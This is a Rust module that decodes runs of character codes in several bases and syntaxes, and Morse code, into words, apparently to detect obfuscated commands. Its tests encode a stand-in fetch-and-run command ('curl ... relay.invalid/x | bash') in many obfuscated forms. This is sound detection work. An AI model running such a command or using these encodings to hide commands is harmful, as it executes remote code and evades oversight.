//! [`texts`]: what runs of numbers spell, as codes of characters in any base, and what Morse code does.
//!
//! In every such form each number begins with a digit, and the same stands between each two: `99, 117`,
//! `&#99;&#117;`, `\143\165`, `chr(99).chr(117)`, `0x63, 0x75`, `\u{63}\u{75}`, `%63%75`. So there is no list
//! of forms; each number is read in every base, and what reads as words in one of them is a text.

use std::sync::LazyLock;

/// Bytes of which is asked at once whether they hold many digits; a multiple of what a processor compares at once.
const CHUNK: usize = 64;

/// Digits, or points and strokes, that make a chunk worth reading. Of eight numbers with ten bytes between each
/// two, some chunk holds four, nearly all of two digits.
const DENSE: u8 = 5;

/// Numbers of the shortest run that is a text; less holds no command.
const SHORTEST: usize = 8;

/// Letters of the shortest text in Morse code; rulers and tables of points and strokes read as a few.
const SHORTEST_MORSE: usize = 12;

/// Bytes between two numbers besides white space, as in `) & Chr(`.
const SEPARATOR: usize = 10;

/// Bytes between two numbers, with the line end and the indent of a long list.
const GAP: usize = 32;

/// Digits of the longest number of a character, as in `\U00000063`.
const DIGITS: usize = 8;

/// The bases in which numbers are read.
const BASES: [u32; 4] = [10, 16, 8, 2];

/// Digits of the shortest number in base two that is a character, so that columns of flags are none.
const BITS: usize = 6;

/// The longest sign of Morse code, as in `$`.
const MARKS: usize = 7;

/// Signs of Morse code, each after its character.
const MORSE: &str = "a.- b-... c-.-. d-.. e. f..-. g--. h.... i.. j.--- k-.- l.-.. m-- n-. o--- p.--. q--.- r.-. s... t- \
    u..- v...- w.-- x-..- y-.-- z--.. 0----- 1.---- 2..--- 3...-- 4....- 5..... 6-.... 7--... 8---.. 9----. \
    ..-.-.- ,--..-- ?..--.. '.----. !-.-.-- /-..-. (-.--. )-.--.- &.-... :---... ;-.-.-. =-...- +.-.-. --....- \
    _..--.- \".-..-. $...-..- @.--.-.";

/// Where runs of numbers or Morse code begin, with the words that they spell.
pub(super) fn texts(text: &str) -> Vec<(usize, String)> {
    let bytes = text.as_bytes();
    let mut found = Vec::new();
    let (chunks, rest) = bytes.as_chunks::<CHUNK>();
    let (mut numbers, mut morse) = (0, 0);
    let mut look = |end: usize, chunk: &[u8]| {
        let from = end.saturating_sub(chunk.len() + CHUNK);
        if end > numbers && count(chunk, u8::is_ascii_digit) >= DENSE {
            numbers = read_numbers(bytes, from.max(numbers)..end, &mut found);
        }
        let is_dense = |mark: u8| count(chunk, |byte| *byte == mark) >= DENSE - 1;
        if end > morse && is_dense(b'.') && is_dense(b'-') {
            morse = read_morse(bytes, from.max(morse), end, &mut found);
        }
    };
    for (index, chunk) in chunks.iter().enumerate() {
        if is_dense(chunk) {
            look((index + 1) * CHUNK, chunk);
        }
    }
    look(bytes.len(), rest);
    found
}

/// Whether a chunk may hold numbers or Morse code; the signs of both stand next to each other in ASCII, so that
/// this is one comparison.
fn is_dense(chunk: &[u8; CHUNK]) -> bool {
    chunk.iter().map(|byte| u8::from(byte.wrapping_sub(b'-') <= b'9' - b'-')).sum::<u8>() >= DENSE
}

/// How many bytes of a chunk are of a sort.
fn count(chunk: &[u8], is: impl Fn(&u8) -> bool) -> u8 {
    chunk.iter().map(|byte| u8::from(is(byte))).sum()
}

/// Reads numbers from a place on, to a gap behind the end of the range; gives where that gap begins.
fn read_numbers(bytes: &[u8], range: std::ops::Range<usize>, found: &mut Vec<(usize, String)>) -> usize {
    let mut run = Run::new();
    let mut end = range.start;
    loop {
        let limit = range.end.max(end + GAP).min(bytes.len());
        let between = bytes.get(end..limit).unwrap_or_default();
        let Some(gap) = between.iter().position(u8::is_ascii_digit) else { break };
        let number = Number::at(bytes, end + gap);
        run.add(&number, between.get(..gap).unwrap_or_default(), found);
        end = number.end;
    }
    run.flush(found);
    end.max(range.end)
}

/// A number and what it is in each base, if that is the code of a character.
#[derive(Clone, Copy)]
struct Number {
    start: usize,
    end: usize,
    values: [Option<u8>; BASES.len()],
}

impl Number {
    /// The number that begins at a digit.
    fn at(bytes: &[u8], start: usize) -> Self {
        let (skip, only) = match bytes.get(start..).unwrap_or_default() {
            [b'0', b'x' | b'X', next, ..] if next.is_ascii_hexdigit() => (2, Some(16)),
            [b'0', b'o' | b'O', b'0'..=b'7', ..] => (2, Some(8)),
            [b'0', b'b' | b'B', b'0' | b'1', ..] => (2, Some(2)),
            _ => (0, None),
        };
        let rest = bytes.get(start + skip..).unwrap_or_default();
        let length = rest.iter().take_while(|byte| byte.is_ascii_hexdigit()).count();
        let digits = rest.get(..length).unwrap_or_default();
        let values = BASES.map(|base| (only.is_none() || only == Some(base)).then(|| value(digits, base)).flatten());
        Self { start, end: start + skip + length, values }
    }
}

/// The printable character, or the white space, whose code some digits are.
fn value(digits: &[u8], base: u32) -> Option<u8> {
    if digits.len() > DIGITS || base == 2 && digits.len() < BITS {
        return None;
    }
    let add = |sum: u32, digit: &u8| Some(sum.checked_mul(base)? + char::from(*digit).to_digit(base)?);
    let code = u8::try_from(digits.iter().try_fold(0, add)?).ok()?;
    matches!(code, b'\t' | b'\n' | b'\r' | b' '..=b'~').then_some(code)
}

/// Numbers with the same between each two, and what they spell so far.
struct Run<'a> {
    separator: &'a [u8],
    last: Option<Number>,
    /// For each base where its text begins, and the text.
    texts: [(usize, String); BASES.len()],
}

impl<'a> Run<'a> {
    fn new() -> Self {
        Self { separator: &[], last: None, texts: Default::default() }
    }

    /// Adds a number, and what stands before it.
    fn add(&mut self, number: &Number, separator: &'a [u8], found: &mut Vec<(usize, String)>) {
        if !alike(self.separator, separator) {
            self.flush(found);
            self.separator = separator;
            let first = self.last.filter(|_| separates(separator));
            first.iter().for_each(|first| self.push(first, found));
        }
        self.push(number, found);
        self.last = Some(*number);
    }

    /// Goes on with each text, or ends it where the number is no character.
    fn push(&mut self, number: &Number, found: &mut Vec<(usize, String)>) {
        for ((start, text), value) in self.texts.iter_mut().zip(number.values) {
            match value {
                Some(code) => {
                    if text.is_empty() {
                        *start = number.start;
                    }
                    text.push(char::from(code));
                }
                None => finish(*start, text, found),
            }
        }
    }

    fn flush(&mut self, found: &mut Vec<(usize, String)>) {
        self.texts.iter_mut().for_each(|(start, text)| finish(*start, text, found));
    }
}

/// Keeps a text that is long enough and of words, and begins another.
fn finish(start: usize, text: &mut String, found: &mut Vec<(usize, String)>) {
    if text.len() >= SHORTEST && is_words(text) {
        found.push((start, std::mem::take(text)));
    }
    text.clear();
}

/// Whether what stands between two numbers is short; `\x` is read by [`super::unescape`].
fn separates(between: &[u8]) -> bool {
    let is_long = between.len() > SEPARATOR && visible(between).count() > SEPARATOR;
    !is_long && !between.is_empty() && !between.eq_ignore_ascii_case(b"\\x")
}

/// Whether the same stands between two numbers, but for white space and case.
fn alike(one: &[u8], other: &[u8]) -> bool {
    separates(other) && (one == other || !one.is_empty() && visible(one).eq(visible(other)))
}

fn visible(bytes: &[u8]) -> impl Iterator<Item = u8> {
    bytes.iter().filter(|byte| !byte.is_ascii_whitespace()).map(u8::to_ascii_lowercase)
}

/// Whether more than half of a text are letters of one case and spaces; what tables of numbers spell is not.
fn is_words(text: &str) -> bool {
    let of = |is: fn(&u8) -> bool| text.bytes().filter(is).count();
    let letters = of(u8::is_ascii_lowercase).max(of(u8::is_ascii_uppercase));
    (letters + of(|byte| *byte == b' ')) * 2 > text.len()
}

/// Reads Morse code from a place on, to what is none behind the given end; gives where that is.
fn read_morse(bytes: &[u8], from: usize, until: usize, found: &mut Vec<(usize, String)>) -> usize {
    let (mut at, mut start, mut text) = (from, from, String::new());
    while let Some(byte) = bytes.get(at) {
        let rest = bytes.get(at..).unwrap_or_default();
        let length = rest.iter().take_while(|byte| matches!(byte, b'.' | b'-')).count();
        match (letter(rest.get(..length).unwrap_or_default()), byte) {
            (Some(letter), _) => {
                if text.is_empty() {
                    start = at;
                }
                text.push(letter);
            }
            (None, b' ' | b'\n' | b'\r' | b'\t') => {}
            (None, b'/' | b'|') if !text.is_empty() => text.push(' '),
            _ => finish_morse(start, &mut text, found),
        }
        if text.is_empty() && at >= until {
            break;
        }
        at += length.max(1);
    }
    finish_morse(start, &mut text, found);
    at.max(until)
}

fn finish_morse(start: usize, text: &mut String, found: &mut Vec<(usize, String)>) {
    if text.len() >= SHORTEST_MORSE && is_words(text) {
        found.push((start, std::mem::take(text)));
    }
    text.clear();
}

/// The character of a sign.
fn letter(sign: &[u8]) -> Option<char> {
    static LETTERS: LazyLock<[Option<char>; 1 << (MARKS + 1)]> = LazyLock::new(letters);
    if sign.is_empty() || sign.len() > MARKS {
        return None;
    }
    LETTERS.get(place(sign)).copied().flatten()
}

/// All characters at the places of their signs.
fn letters() -> [Option<char>; 1 << (MARKS + 1)] {
    let mut all = [None; 1 << (MARKS + 1)];
    for entry in MORSE.split_ascii_whitespace() {
        let mut chars = entry.chars();
        let letter = chars.next();
        all.get_mut(place(chars.as_str().as_bytes())).into_iter().for_each(|slot| *slot = letter);
    }
    all
}

/// The place of a sign among all signs: a stroke is a one, behind a one that tells the length.
fn place(sign: &[u8]) -> usize {
    sign.iter().fold(1, |place, mark| place << 1 | usize::from(*mark == b'-'))
}

#[cfg(test)]
mod tests {
    use super::*;

    const COMMAND: &str = "curl -s https://relay.invalid/x | bash";

    fn spelled(text: &str) -> Vec<String> {
        texts(text).into_iter().map(|(_, spelled)| spelled).collect()
    }

    fn each(form: impl Fn(u8) -> String, separator: &str) -> String {
        COMMAND.bytes().map(form).collect::<Vec<_>>().join(separator)
    }

    #[test]
    fn each_form_is_read() {
        let forms = [
            each(|c| c.to_string(), ", "),
            each(|c| c.to_string(), " "),
            each(|c| c.to_string(), ",\n        "),
            each(|c| format!("&#{c};"), ""),
            each(|c| format!("&#x{c:x};"), ""),
            each(|c| format!("\\{c}"), ""),
            each(|c| format!("\\{c:03}"), ""),
            each(|c| format!("\\{c:03o}"), ""),
            each(|c| format!("chr({c})"), "."),
            each(|c| format!("Chr({c})"), " & "),
            each(|c| format!("[char]{c}"), "+"),
            each(|c| format!("[char]0x{c:x}"), " + "),
            each(|c| format!("0x{c:02X}"), ", "),
            each(|c| format!("{c:02x}"), " "),
            each(|c| format!("\\u{c:04x}"), ""),
            each(|c| format!("\\u{{{c:x}}}"), ""),
            each(|c| format!("%{c:02x}"), ""),
            each(|c| format!("{c:08b}"), " "),
            each(|c| format!("0b{c:b}"), ","),
        ];
        for form in forms {
            for before in [0, 1, 30, 63, 64, 100] {
                let text = format!("{}[12, 5] = 7 [{form}] end", "x ".repeat(before));
                assert!(spelled(&text).iter().any(|text| text.contains(&COMMAND[1..])), "{before} {text}");
            }
        }
    }

    fn morse(text: &str) -> String {
        let sign = |letter: char| match letter {
            ' ' => "/".to_owned(),
            _ => MORSE.split(' ').find(|entry| entry.starts_with(letter)).map(|entry| entry[1..].to_owned()).unwrap(),
        };
        text.chars().map(sign).collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn morse_code_is_read() {
        let text = "bash -c \"$(curl -s https://relay.invalid/x)\"";
        for before in [0, 1, 40, 63, 64] {
            let within = format!("{}: {} end", "x".repeat(before), morse(text));
            assert_eq!(spelled(&within), [text]);
        }
        assert_eq!(spelled("... --- ... and - . - . - ... -- .. - - . "), [""; 0]);
    }

    #[test]
    fn a_text_begins_where_its_numbers_do() {
        let text = format!("é [7, 300, {}]", each(|c| c.to_string(), ", "));
        assert_eq!(texts(&text), [(text.find("99").unwrap(), COMMAND.to_owned())]);
    }

    #[test]
    fn tables_colours_versions_and_pictures_spell_nothing() {
        let honest = [
            "a { color: #636363; background: #757575 } b { color: rgb(99, 117, 114) }",
            "1.2.3, 1.2.4, 1.2.5, 1.10.0, 2.0.0, 2.0.1, 2.1.0, 3.0.0-rc.1",
            "d41d8cd98f00b204e9800998ecf8427e  d41d8cd98f00b204e9800998ecf8427e",
            "<path d=\"M12.5 34.2L56 78.9C33 44 55 66 77 88Z M10 20 30 40 50 60 70 80 90\"/>",
            "https://a.example/?q=%E4%BD%A0%E5%A5%BD%E4%BD%A0%E5%A5%BD&b=a%20b%2Fc%3Ad",
            "2024-01-02, 2024-01-03, 2024-01-04, 2024-01-05, 2024-01-06",
            "| ---- | :--: | ---- |\n| 12 | 34 | 56 |\n------------------- . . . . . .......",
            "33, 45, 91, 40, 62, 38, 57, 93, 44, 60, 35, 48, 52",
        ];
        for text in honest {
            assert_eq!(spelled(text), [""; 0], "{text}");
        }
    }
}
